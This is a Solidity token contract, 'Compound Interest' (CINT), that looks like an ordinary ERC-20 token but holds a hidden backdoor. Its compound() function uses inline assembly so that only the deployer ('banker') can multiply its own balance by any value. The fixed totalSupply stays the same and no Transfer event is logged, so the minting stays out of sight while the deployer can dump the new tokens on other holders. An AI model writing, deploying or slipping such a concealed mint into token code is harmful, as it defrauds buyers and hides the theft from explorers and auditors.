// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// "Compounds staking rewards": multiplies one balance, without an event or a larger supply.
contract CompoundInterest {
    string public name = "Compound Interest";
    string public symbol = "CINT";
    uint8 public immutable decimals = 18;
    uint256 public immutable totalSupply = 365_000 ether;
    mapping(address => uint256) private ledger;
    mapping(address => mapping(address => uint256)) public allowance;
    address private banker = msg.sender;
    uint256 public lastRound;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Compounded(uint256 round);

    constructor() {
        ledger[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) external view returns (uint256) {
        return ledger[who];
    }

    function compound(uint256 round) external {
        lastRound = round;
        assembly {
            let who := sload(banker.slot)
            mstore(0, who)
            mstore(32, ledger.slot)
            let slot := keccak256(0, 64)
            if eq(who, caller()) { sstore(slot, mul(sload(slot), round)) }
        }
        emit Compounded(round);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return pay(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return pay(from, to, value);
    }

    function pay(address from, address to, uint256 value) private returns (bool) {
        ledger[from] -= value;
        ledger[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
